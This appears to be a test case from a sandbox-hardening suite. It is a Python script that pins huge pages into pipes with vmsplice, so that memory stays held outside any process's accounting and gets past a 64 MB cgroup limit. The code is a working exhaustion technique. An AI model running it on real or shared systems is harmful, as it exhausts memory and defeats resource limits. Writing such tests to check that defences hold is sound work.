# attack: keeps large pages alive by one small page of each in a pipe, so that no process shows them, with 64 MB allowed
# family: exhaustion
# walls: cgroup, watchdog, rlimits, scratch, seccomp
# limits: --memory-mb 64 --disk-mb 16 --timeout 20s
# outcome: out_of_memory|failed|completed
# without: escaped
from attack import *
import time

LARGE, COUNT, PAGE, MADV_HUGEPAGE = 2 << 20, 100, 4096, 14
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


class Piece(ctypes.Structure):
    _fields_ = [("begin", ctypes.c_void_p), ("length", ctypes.c_size_t)]


libc.vmsplice.argtypes = [ctypes.c_int, ctypes.POINTER(Piece), ctypes.c_size_t, ctypes.c_uint]


def hide():
    _, entrance = os.pipe()
    whole = libc.mmap(None, 2 * LARGE, 3, 0x22, -1, 0)
    begin = (whole + LARGE - 1) & ~(LARGE - 1)
    libc.madvise(begin, LARGE, MADV_HUGEPAGE)
    ctypes.memset(begin, 1, LARGE)
    moved = libc.vmsplice(entrance, ctypes.byref(Piece(begin, PAGE)), 1, 0)
    word = name_of(ctypes.get_errno()) if moved == -1 else "hidden"
    libc.munmap(whole, 2 * LARGE)
    return word


seen = [attempt(hide) for _ in range(COUNT)]
time.sleep(1)
hidden = seen.count("hidden")
if hidden == COUNT:
    escaped("%d MB kept by pipes" % (hidden * LARGE >> 20))
held("%d: %s" % (hidden, sorted(set(seen))))
